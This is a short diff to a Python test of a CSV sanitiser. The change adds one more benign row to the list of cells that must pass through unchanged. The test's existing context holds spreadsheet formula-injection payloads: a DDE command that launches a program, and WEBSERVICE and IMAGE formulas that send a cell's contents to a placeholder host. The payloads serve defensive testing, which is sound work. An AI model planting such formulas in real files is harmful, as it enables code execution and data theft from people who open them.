@@ -36,7 +36,11 @@ def test_a_table_starts_no_program() -> None:
         "=cmd|'/c calc'!#REF!", '=WEBSERVICE("https://e/"&A1)', '"=IMAGE(""https://e/""&A1)"',
     ):  # fmt: skip
         assert "start another program, or fetch" in refused("a.csv", f"a,{cell},b\n".encode())
-    for fine in ("-5,+44 1952,@school,a|b!\n", "=SUM(A1:A2),- Bring | and go!\n"):
+    for fine in (
+        "-5,+44 1952,@school,a|b!\n",
+        "a,- call(s), image (2)\n",
+        "=SUM(A1:A2),- Bring | and go!\n",
+    ):
         assert cleaned("a.csv", fine.encode()) == fine.encode()
 
 
